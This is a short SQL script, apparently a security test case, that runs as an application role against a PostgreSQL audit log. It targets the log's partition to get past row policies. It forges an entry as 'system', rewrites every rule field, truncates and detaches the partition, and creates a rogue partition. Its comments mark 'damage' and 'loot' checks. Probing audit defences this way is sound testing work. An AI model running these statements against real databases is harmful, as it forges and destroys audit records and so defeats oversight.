-- Read and write the log through a partition, past its policies.
-- role: mosovo_app
-- damage: select count(*) from audit_auditentry where rule = 'forged'
/* loot */ select count(*) from audit_auditentry_other;
/* loot */ select inhrelid::regclass from pg_inherits where has_table_privilege(inhrelid, 'select, insert, update, delete, truncate, references, trigger') and inhparent = 'audit_auditentry'::regclass;
insert into audit_auditentry_other (id, xid, at, actor_name, agency, verb, action, allowed, rule, subjects, fields, detail, purpose, recipient, session_hash)
values (1, '1', now(), 'system', '', 'consultation', 'x', true, 'forged', '{}', '{}', '{}', '', '', '');
update audit_auditentry_other set rule = 'forged';
truncate audit_auditentry_other;
alter table audit_auditentry detach partition audit_auditentry_other;
create table forged partition of audit_auditentry for values from ('2001-01-01') to ('2001-02-01');
/* loot */ select create_log_months();
